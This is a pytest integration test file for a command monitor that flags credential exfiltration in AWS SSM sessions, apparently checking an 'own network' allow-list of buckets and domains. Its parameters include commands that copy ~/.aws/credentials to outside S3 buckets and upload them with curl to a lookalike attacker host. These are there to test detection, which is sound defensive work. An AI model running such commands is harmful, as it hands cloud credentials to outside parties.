"""The policy's own network: the account's buckets and domains that are not "unknown destinations".

Sensitive data sent to a bucket or domain the policy names as the account's own is not exfiltration;
the same command towards anything else still is. The live command watch, ``classify`` and ``scan``
read the list from the policy in force."""

from __future__ import annotations

import pytest

from functions.command_monitor import app as monitor_app
from ssm_warden.clients import aws_client
from ssm_warden.config import reset_settings
from ssm_warden.policy.loader import bundled_policy_text
from ssm_warden.policy.store import reset_policy_cache
from tests.conftest import LambdaContext
from tests.integration.enforce.conftest import Warden
from tests.integration.enforce.test_blinding import PROMPT, live_session, queued_actions, streamed_payload

POLICY_PARAMETER = "/governance/warden-policy"
OWN_NETWORK = """
  own_network:
    buckets: [acme-backups, "acme-logs-*"]
    domains: [acme.example]
"""


@pytest.fixture
def own_policy(warden: Warden, monkeypatch: pytest.MonkeyPatch) -> Warden:
    """The bundled policy with the account's own buckets and domains under ``defaults``."""
    text = bundled_policy_text().replace("\ndefaults:\n", "\ndefaults:" + OWN_NETWORK, 1)
    assert "own_network" in text
    aws_client("ssm").put_parameter(Name=POLICY_PARAMETER, Value=text, Type="String")
    monkeypatch.setenv("POLICY_PARAMETER", POLICY_PARAMETER)
    reset_settings()
    reset_policy_cache()
    return warden


def _rules_of(warden: Warden, command: str) -> set[str]:
    session_id, target = live_session(warden, "dev")
    monitor_app.lambda_handler(
        streamed_payload(warden, session_id, target, [[f"{PROMPT}{command}"]]), LambdaContext()
    )
    return {f.rule for action in queued_actions(warden) for f in action.findings}


@pytest.mark.parametrize(
    "command",
    [
        "aws s3 cp ~/.aws/credentials s3://acme-backups/host/credentials",
        "aws s3 cp ~/.aws/credentials s3://acme-logs-eu/host/credentials",
        "curl -T ~/.aws/credentials https://vault.acme.example/upload",
    ],
)
def test_sensitive_data_to_the_accounts_own_bucket_or_domain_is_not_exfiltration(
    own_policy: Warden, command: str
) -> None:
    assert not {r for r in _rules_of(own_policy, command) if r.endswith("-to-unknown-destination")}


@pytest.mark.parametrize(
    "command",
    [
        "aws s3 cp ~/.aws/credentials s3://acme-backups-public/c",
        "curl -T ~/.aws/credentials https://acme.example.attacker.test/upload",
        "aws s3 cp ~/.aws/credentials s3://elsewhere/c",
    ],
)
def test_the_same_data_anywhere_else_is_still_exfiltration(own_policy: Warden, command: str) -> None:
    assert "sensitive-data-to-unknown-destination" in _rules_of(own_policy, command)
